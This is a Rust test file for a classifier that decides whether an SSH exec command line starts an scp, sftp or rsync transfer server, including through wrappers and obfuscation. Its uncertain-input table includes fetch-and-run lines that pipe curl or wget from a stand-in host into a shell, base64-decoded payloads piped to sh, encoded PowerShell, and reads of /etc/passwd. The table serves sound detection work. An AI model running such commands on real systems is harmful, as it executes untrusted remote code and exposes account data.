use super::*;

use ExecTransfer::{None as Plain, RsyncServer, ScpSink, SftpServer, Uncertain};

fn source(command: &str) -> ExecTransfer {
    ExecTransfer::ScpSource {
        command: command.to_owned(),
    }
}

/// Each line an exec request might carry, and what it starts.
#[test]
fn finds_transfer_servers_in_any_wrapping() {
    let table: &[(&str, ExecTransfer)] = &[
        // What stock clients send.
        ("scp -t /tmp/", ScpSink),
        (
            "scp -f /srv/patients.csv",
            source("scp -f /srv/patients.csv"),
        ),
        ("scp -r -d -t -- /tmp/", ScpSink),
        ("scp -pt /tmp", ScpSink),
        (
            "scp -v -r -p -f /var/log",
            source("scp -v -r -p -f /var/log"),
        ),
        ("/usr/lib/openssh/sftp-server", SftpServer),
        ("/usr/libexec/openssh/sftp-server", SftpServer),
        ("/usr/libexec/sftp-server -e -l INFO", SftpServer),
        ("sftp-server", SftpServer),
        ("internal-sftp", SftpServer),
        (
            "rsync --server -vlogDtpre.iLsfxCIvu . /tmp/",
            RsyncServer { sender: false },
        ),
        (
            "rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/",
            RsyncServer { sender: true },
        ),
        // Issue 11, reproduction 5.
        ("exec scp -t /tmp/", ScpSink),
        ("\"scp\" -t /tmp/", ScpSink),
        // Quoting and paths.
        ("'scp' -t /tmp", ScpSink),
        ("s\"c\"p -t /tmp", ScpSink),
        ("\\scp -t /tmp", ScpSink),
        ("/usr/bin/scp -t /tmp", ScpSink),
        ("/usr/bin/../bin/scp -t .", ScpSink),
        ("'/usr/bin/scp' '-t' '/tmp'", ScpSink),
        ("C:/OpenSSH/scp.exe -t C:/tmp", ScpSink),
        ("scp /tmp -t", ScpSink),
        ("scp -o User=x -t /tmp", ScpSink),
        ("scp -i tkey /tmp/x h:", Plain),
        ("scp -f -t x", source("scp -f -t x")),
        (
            "scp -f '/srv/patient list.csv'",
            source("scp -f '/srv/patient list.csv'"),
        ),
        ("scp -f \"it's\"", source(r"scp -f 'it'\''s'")),
        // Wrappers.
        ("env X=1 scp -t /tmp", ScpSink),
        ("env -i PATH=/bin scp -t /tmp", ScpSink),
        ("env -S 'scp -t /tmp'", ScpSink),
        ("env -u HOME -S'scp -t /tmp'", ScpSink),
        ("X=1 scp -t /tmp", ScpSink),
        ("sh -c 'scp -t /tmp'", ScpSink),
        ("bash -lc \"exec scp -t .\"", ScpSink),
        ("/bin/bash -c -- 'cd /tmp && scp -t .'", ScpSink),
        ("sh -c \"sh -c 'scp -t /tmp'\"", ScpSink),
        ("nice scp -t /tmp", ScpSink),
        ("nice -n 19 scp -t /tmp", ScpSink),
        ("nohup scp -t /tmp", ScpSink),
        ("timeout 5 scp -t /tmp", ScpSink),
        ("timeout -s KILL 5m scp -t /tmp", ScpSink),
        ("sudo scp -t /tmp", ScpSink),
        ("sudo -u root -- scp -t /tmp", ScpSink),
        ("sudo -i scp -t /tmp", ScpSink),
        ("su - root -c 'scp -t /tmp'", ScpSink),
        ("command scp -t /tmp", ScpSink),
        ("builtin exec scp -t /tmp", ScpSink),
        ("exec -a x scp -t /tmp", ScpSink),
        ("busybox nohup scp -t /tmp", ScpSink),
        ("setsid -w stdbuf -i0 ionice -c3 scp -t /tmp", ScpSink),
        ("script -qc 'scp -t /tmp' /dev/null", ScpSink),
        ("script -q -c 'scp -t /tmp' /dev/null", ScpSink),
        ("flock /tmp/l scp -t /tmp", ScpSink),
        ("flock -w 5 /tmp/l -c 'scp -t /tmp'", ScpSink),
        ("strace -o /dev/null scp -t /tmp", ScpSink),
        ("taskset -c 0 scp -t /tmp", ScpSink),
        ("find /tmp -maxdepth 0 -exec scp -t {} \\;", ScpSink),
        ("echo /tmp | xargs scp -t", ScpSink),
        ("if true; then scp -t /tmp; fi", ScpSink),
        ("{ scp -t /tmp; }", ScpSink),
        ("(cd /tmp; scp -t .)", ScpSink),
        ("f() { scp -t \"$@\"; }; f /tmp", ScpSink),
        ("sudo sh -c 'exec /usr/lib/openssh/sftp-server'", SftpServer),
        (
            "exec env LC_ALL=C /usr/lib/openssh/sftp-server -e",
            SftpServer,
        ),
        (
            "sudo -u backup rsync --server --sender -e.Lsfx . /srv",
            RsyncServer { sender: true },
        ),
        // Any simple command of a list.
        ("cd /tmp && scp -t .", ScpSink),
        ("true; scp -t /tmp", ScpSink),
        ("false || scp -t /tmp", ScpSink),
        ("echo x | scp -t /tmp", ScpSink),
        ("echo x &\nscp -t /tmp", ScpSink),
        ("echo $(scp -f /etc/passwd)", source("scp -f /etc/passwd")),
        // Ordinary commands.
        ("ls -l", Plain),
        ("df -h", Plain),
        ("cat /srv/patients.csv", Plain),
        ("cat > /tmp/t", Plain),
        ("ps aux | grep sshd | wc -l", Plain),
        ("uname -a; uptime && id", Plain),
        ("echo scp -t /tmp", Plain),
        ("grep 'scp -t' /var/log/secure", Plain),
        ("ls /usr/lib/openssh/sftp-server", Plain),
        ("scp /tmp/a backup01:/srv/", Plain),
        ("rsync -a /var/log/ backup01:/srv/logs/", Plain),
        ("bash /opt/vendor/check.sh", Plain),
        ("sh -x ./check.sh --verbose", Plain),
        ("python3 -c 'print(1)'", Plain),
        ("python3 /opt/vendor/collect.py", Plain),
        ("python3 -m json.tool /tmp/a.json", Plain),
        ("perl -e 'print 1'", Plain),
        ("perl -ne 'print if /x/' /var/log/messages", Plain),
        ("node -e 'console.log(1)'", Plain),
        ("php -r 'echo 1;'", Plain),
        ("echo recorded-$((6*7))", Plain),
        ("HISTFILE=/dev/null", Plain),
        ("> /tmp/empty", Plain),
        ("", Plain),
        ("sudo -l", Plain),
        ("powershell -Command Get-Date", Plain),
        ("powershell -NoProfile -File C:/ops/check.ps1", Plain),
        ("cmd /c dir", Plain),
        ("source /etc/profile", Plain),
    ];
    let wrong: Vec<_> = table
        .iter()
        .map(|(line, expected)| (line, expected, exec_transfer(line)))
        .filter(|(_, expected, found)| found != *expected)
        .collect();
    assert!(wrong.is_empty(), "(line, expected, found): {wrong:#?}");
}

/// Lines whose programs can't be told with certainty.
#[test]
fn uncertain_lines_are_said_to_be() {
    let table: &[&str] = &[
        // Expansions in command position.
        "$X -t /tmp",
        "\"$X\" -t /tmp",
        "${0} -t /tmp",
        "$'\\x73cp' -t /tmp",
        "$(echo scp) -t /tmp",
        "`echo scp` -t /tmp",
        "\"$(printf scp)\" -t /tmp",
        "/usr/bin/sc? -t /tmp",
        "/usr/bin/s*p -t /tmp",
        "/usr/bin/sc[p] -t /tmp",
        "{scp,-t,/tmp}",
        "%SCP% -t C:/tmp",
        "sudo $CMD",
        "env $X scp",
        "exec \"$@\"",
        "sh -c \"$X\"",
        "sh -c \"$(cat /tmp/cmd)\"",
        "echo scp | xargs -I{} {} -t /tmp",
        "$((1)) -t /tmp",
        // Options a shell could expand into the mode.
        "scp $MODE /tmp",
        "scp `printf -- -t` /tmp",
        "scp -* /tmp",
        "scp {-t,/tmp}",
        "rsync $(echo --server) . /tmp",
        "echo -t /tmp | xargs scp",
        "echo --server . /tmp | xargs rsync",
        // eval and aliases.
        "eval scp -t /tmp",
        "eval \"$(echo c2NwIC10IC90bXAK | base64 -d)\"",
        "alias s=scp; s -t /tmp",
        // The reader could not follow the line.
        "scp -t '/tmp",
        "sh -c \"scp -t /tmp",
        "echo $(scp -t /tmp",
        "echo `scp -t",
        // Shells and interpreters reading their program from input.
        "sh",
        "bash",
        "bash -s",
        "bash -s -- arg",
        "bash -",
        "sh -i",
        "sh -e -x",
        "zsh -o errexit",
        "bash /dev/stdin",
        "sh <<EOF\nscp -t /tmp\nEOF",
        "cat <<EOF | sh\nscp -t /tmp\nEOF",
        "bash <<< 'scp -t /tmp'",
        "bash < /tmp/script",
        "bash <(curl -s http://192.0.2.1/x)",
        "sh <(wget -O- http://192.0.2.1/x)",
        "source /dev/stdin",
        ". <(echo scp -t /tmp)",
        "curl -s http://192.0.2.1/x | bash",
        "echo c2NwIC10IC90bXAK | base64 -d | sh",
        "xxd -r -p | sh",
        "python -",
        "python3",
        "python3 -u",
        "python3 - arg",
        "perl",
        "perl -w",
        "ruby",
        "node",
        "php",
        "csh -c 'scp -t /tmp'",
        "echo /tmp/x.sh | xargs bash",
        "cmd",
        "powershell",
        "powershell -EncodedCommand cwBjAHAA",
        "pwsh -enc cwBjAHAA",
        "powershell -File -",
        // A wrapper starting a shell on input.
        "sudo -i",
        "sudo -s",
        "sudo su -",
        "su - postgres",
        "su",
        "runuser -l postgres",
        "echo 'scp -t /tmp' | xargs sh -c",
        "script -q /dev/null",
        // Two transfer servers on one channel.
        "scp -t /tmp; scp -f /etc/passwd",
        "scp -t /a || scp -t /b",
        "scp -t /tmp | /usr/lib/openssh/sftp-server",
        // A transfer server and something uncertain.
        "scp -t /tmp; $X",
    ];
    let wrong: Vec<_> = table
        .iter()
        .map(|line| (line, exec_transfer(line)))
        .filter(|(_, found)| *found != Uncertain)
        .collect();
    assert!(wrong.is_empty(), "(line, found): {wrong:#?}");
}

#[test]
fn nesting_too_deep_is_uncertain() {
    let mut line = "ls".to_owned();
    for _ in 0..12 {
        line = format!("sh -c {line:?}");
    }
    assert_eq!(exec_transfer(&line), Uncertain);
}

#[test]
fn scp_modes_are_read_from_clusters_and_values() {
    let words = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
    let table = [
        ("-t /tmp", Some(ScpMode::Sink)),
        ("-rpt /tmp", Some(ScpMode::Sink)),
        ("-f x", Some(ScpMode::Source)),
        ("-tf x", Some(ScpMode::Source)),
        // The value of `-o`, `-i`, `-S`, `-l`, … is not a mode.
        ("-o ft x y", None),
        ("-oft x y", None),
        ("-i t x y", None),
        ("-S /usr/bin/ft x y", None),
        ("-l 10 -t /tmp", Some(ScpMode::Sink)),
        ("-- -t", None),
        ("x y", None),
    ];
    for (args, expected) in table {
        assert_eq!(scp_mode(&words(args)), expected, "{args}");
    }
}
